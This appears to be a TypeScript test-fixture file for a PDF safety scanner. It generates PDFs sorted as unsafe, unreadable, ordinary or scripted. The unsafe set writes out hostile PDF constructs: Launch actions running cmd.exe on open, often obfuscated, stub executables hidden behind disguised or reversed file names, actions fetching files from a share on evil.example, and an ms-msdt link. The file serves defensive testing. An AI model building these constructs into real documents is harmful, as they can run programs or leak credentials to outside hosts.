@@ -1,0 +1,225 @@
+import { createCipheriv, createHash, randomBytes } from 'node:crypto';
+import { pdf } from './files.ts';
+import { objectStream, onePage, packed, pdfOf, stream } from './pdfs.ts';
+
+type Case = [name: string, bytes: Buffer];
+
+const launch = '<</S/Launch/F(cmd.exe)>>';
+/** A catalog with this, and objects from 4 on. */
+const withCatalog = (catalog: string, ...objects: string[]) =>
+  pdfOf([...onePage(catalog), ...objects]);
+const pageWith = (entries: string, ...objects: string[]) => {
+  const [catalog = '', pages = '', page = ''] = onePage();
+  return pdfOf([catalog, pages, page.replace('>>', `${entries}>>`), ...objects]);
+};
+
+/** A file inside: its name, its bytes, and how they are packed. */
+function attached(name: string, bytes: string | Buffer, pack = packed): Buffer {
+  return withCatalog(
+    '/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>',
+    `<</Type/Filespec/F${name}/UF${name}/EF<</F 5 0 R>>>>`,
+    pack(bytes, '/Type/EmbeddedFile'),
+  );
+}
+
+const hex = (bytes: string | Buffer, entries = '') =>
+  stream(`${Buffer.from(bytes).toString('hex')}>`, `/Filter/ASCIIHexDecode${entries}`);
+
+/** Locked as Acrobat does by AES-256: whoever has the user's password may open it. */
+export function lockedPdf(userPassword: string, objects: string[] = []): Buffer {
+  const sha = (...parts: (string | Buffer)[]) =>
+    createHash('sha256')
+      .update(Buffer.concat(parts.map((part) => Buffer.from(part))))
+      .digest();
+  const key = randomBytes(32);
+  const salts = [randomBytes(8), randomBytes(8)] as const;
+  const user = Buffer.concat([sha(userPassword, salts[0]), ...salts]);
+  const wrap = createCipheriv('aes-256-cbc', sha(userPassword, salts[1]), Buffer.alloc(16));
+  const wrapped = wrap.setAutoPadding(false).update(key);
+  const written = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
+  const lock = (object: string) =>
+    object.replace(/<<(.*?)\/Length \d+(.*?)>>stream\n([\s\S]*)\nendstream/, (_, a, b, data) => {
+      const start = randomBytes(16);
+      const cipher = createCipheriv('aes-256-cbc', key, start);
+      const bytes = Buffer.concat([start, cipher.update(data, 'latin1'), cipher.final()]);
+      return stream(bytes, a + b);
+    });
+  const encrypt = `<</Filter/Standard/V 5/R 5/Length 256/P -44/O${written(Buffer.alloc(48))}/U${written(user)}/UE${written(wrapped)}/OE${written(Buffer.alloc(32))}/Perms${written(Buffer.alloc(16))}/CF<</StdCF<</CFM/AESV3/Length 32/AuthEvent/DocOpen>>>>/StmF/StdCF/StrF/StdCF>>`;
+  const all = [...onePage(), ...objects.map(lock), encrypt];
+  return pdfOf(all, { trailer: `/Encrypt ${all.length} 0 R/ID[<00><00>]` });
+}
+
+/** What would start a program, holds one, or asks another machine for a file. */
+export const unsafePdfs: Case[] = [
+  ['Launch at the opening', withCatalog(`/OpenAction${launch}`)],
+  ['Launch with hidden letters', withCatalog('/OpenAction<</S/La#75nch/F(cmd.exe)>>')],
+  ['Launch by reference', withCatalog('/OpenAction 4 0 R', '<</S 5 0 R/F(cmd.exe)>>', '/Launch')],
+  ['Launch of a page', pageWith(`/AA<</O${launch}>>`)],
+  ['Launch of an annotation', pageWith(`/Annots[<</Subtype/Link/A${launch}>>]`)],
+  ['Launch of an outline', withCatalog('/Outlines 4 0 R', '<</First 5 0 R>>', `<</A${launch}>>`)],
+  ['Launch by name', withCatalog(`/Names<</Dests<</Names[(a)${launch}]>>>>`)],
+  ['Launch as the next action', withCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[${launch}]>>`)],
+  ['Launch packed', withCatalog('/OpenAction 5 0 R', objectStream([launch], 5))],
+  [
+    'Launch packed in capitals of hex',
+    withCatalog('/OpenAction 5 0 R', objectStream(['<</S/#4c#61#75#6E#63#68>>'], 5)),
+  ],
+  [
+    'Launch in an older version',
+    Buffer.concat([withCatalog(`/OpenAction${launch}`), withCatalog('')]),
+  ],
+  ['Launch that a stream hides', withCatalog('', stream(`6 0 obj ${launch} endobj`))],
+  ['Launch after a comment', withCatalog('/OpenAction<</S%\n/Launch>>')],
+  ['Launch in a locked one', lockedPdf('', [objectStream([launch], 9)])],
+  ['program', attached('(a.exe)', 'MZ\x90')],
+  ['program of another name', attached('(a.pdf)', 'MZ\x90')],
+  ['program, not packed', attached('(a.pdf)', '\x7fELF', stream)],
+  ['program in hex', attached('(a.csv)', 'MZ\x90', hex)],
+  [
+    'program in a way that nobody uses',
+    attached('(a.csv)', 'MZ', (bytes, entries) =>
+      stream(String(bytes), `/Filter/JBIG2Decode${entries}`),
+    ),
+  ],
+  ...[
+    'js',
+    'vbs',
+    'bat',
+    'cmd',
+    'ps1',
+    'hta',
+    'lnk',
+    'jar',
+    'msi',
+    'docm',
+    'iso',
+    'scr',
+    'dll',
+    'EXE',
+    'exe ',
+    'exe.',
+    'url',
+    'html',
+  ].map((extension): Case => [`attachment .${extension}`, attached(`(a.${extension})`, 'x')]),
+  [
+    'name in UTF-16',
+    attached(`<feff${Buffer.from('a.exe', 'utf16le').swap16().toString('hex')}>`, 'x'),
+  ],
+  [
+    'name that turns around',
+    attached(`<feff${Buffer.from('a\u202efdp.exe', 'utf16le').swap16().toString('hex')}>`, 'x'),
+  ],
+  ['name that ends early', attached('(a.exe\\000.pdf)', 'x')],
+  [
+    'program of an annotation',
+    pageWith('/Annots[<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>]', packed('MZ')),
+  ],
+  [
+    'program of a locked one',
+    lockedPdf('', [
+      packed('MZ\x90', '/Type/EmbeddedFile'),
+      objectStream(['<</Type/Filespec/EF<</F 4 0 R>>>>'], 9),
+    ]),
+  ],
+  [
+    'Flash',
+    pageWith(
+      '/Annots[<</Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a)<</F(a.swf)/EF<</F 4 0 R>>>>]>>>>>>]',
+      packed('CWS'),
+    ),
+  ],
+  ['file on a share', withCatalog('/OpenAction<</S/GoToE/F(\\\\\\\\evil.example\\\\a)/D[0/Fit]>>')],
+  [
+    'file on a share, by name',
+    withCatalog('/OpenAction<</S/GoToR/F<</F(//evil.example/a.pdf)>>>>'),
+  ],
+  ['data from a share', withCatalog('/OpenAction<</S/ImportData/F(file://evil.example/a)>>')],
+  ['link to a share', pageWith('/Annots[<</A<</S/URI/URI(file://evil.example/a)>>>>]')],
+  ['link to ms-msdt', pageWith('/Annots[<</A<</S/URI/URI(ms-msdt:/id a)>>>>]')],
+];
+
+/** No viewer finds a page. */
+export const unreadablePdfs: Case[] = [
+  ['random bytes', Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5_000)])],
+  ['blanks', Buffer.from(`%PDF-1.7\n${' '.repeat(500)}`)],
+  ['words', Buffer.from('%PDF-1.4\nThis is a page /Type/Page of text.\n%%EOF')],
+  ['no pages', pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>'])],
+  [
+    'a ring of pages',
+    pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
+  ],
+  ['no catalog', pdfOf(['<</Type/Pages/Kids[2 0 R]>>', '<</Type/Page>>'])],
+  ['its first half', pdf('half').subarray(0, 60)],
+  [
+    'damaged object stream',
+    withCatalog('', stream('not packed', '/Type/ObjStm/N 1/First 4/Filter/FlateDecode')),
+  ],
+];
+
+const scripts = '/OpenAction<</S/JavaScript/JS(app.alert(1))>>';
+export const ordinaryPdfs: Case[] = [
+  ['old', pdfOf(onePage(), { version: '1.0' })],
+  ['new', pdfOf(onePage(), { version: '2.0' })],
+  [
+    'after lines of a printer',
+    Buffer.concat([Buffer.from('\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n'), pdf()]),
+  ],
+  ['after blank lines', Buffer.concat([Buffer.from('\r\n\r\n  '), pdf()])],
+  ['with bytes behind', Buffer.concat([pdf(), randomBytes(3_000)])],
+  [
+    'changed later',
+    Buffer.concat([pdf(), Buffer.from('3 0 obj\n<</Type/Page/Parent 2 0 R/Rotate 90>>\nendobj\n')]),
+  ],
+  [
+    'without its table',
+    Buffer.from(
+      pdf()
+        .toString('latin1')
+        .replace(/xref[\s\S]*trailer/, 'trailer'),
+      'latin1',
+    ),
+  ],
+  [
+    'with a wrong table',
+    Buffer.from(
+      pdf()
+        .toString('latin1')
+        .replace(/startxref\n\d+/, 'startxref\n99'),
+      'latin1',
+    ),
+  ],
+  [
+    'pages packed',
+    pdfOf([
+      '<</Type/Catalog/Pages 4 0 R>>',
+      '',
+      '',
+      '',
+      objectStream(['<</Type/Pages/Kids[5 0 R]/Count 1>>', '<</Type/Page/Parent 4 0 R>>']),
+    ]),
+  ],
+  ['link', pageWith('/Annots[<</A<</S/URI/URI(https://www.canada.ca/a)>>>>]')],
+  ['link of a printed page', pageWith('/Annots[<</A<</S/URI/URI(javascript:void\\(0\\))>>>>]')],
+  [
+    'form that is sent',
+    pageWith('/Annots[<</A<</S/SubmitForm/F<</FS/URL/F(https://example.ca/a)>>>>>>]'),
+  ],
+  ['words about Launch', pageWith('/Contents 4 0 R', packed('BT (/S /Launch) Tj ET'))],
+  [
+    'title about Launch',
+    pdfOf([...onePage(), '<</Title(/Launch the pilot)>>'], { trailer: '/Info 4 0 R' }),
+  ],
+  ['attached data', attached('(invoice.xml)', '<?xml version="1.0"?><a/>')],
+  ['attached PDF', attached('(a.pdf)', pdf())],
+  ['attached picture', attached('(a.png)', Buffer.from('89504e470d0a1a0a', 'hex'))],
+  ['locked by its owner alone', lockedPdf('')],
+];
+
+export const scriptedPdfs: Case[] = [
+  ['script at the opening', withCatalog(scripts)],
+  ['script packed', withCatalog('/OpenAction 5 0 R', objectStream(['<</S/JavaScript/JS(a)>>'], 5))],
+  [
+    'form of fields',
+    withCatalog('/AcroForm<</Fields[]/XFA[(template)4 0 R]>>', packed('<template/>')),
+  ],
+];
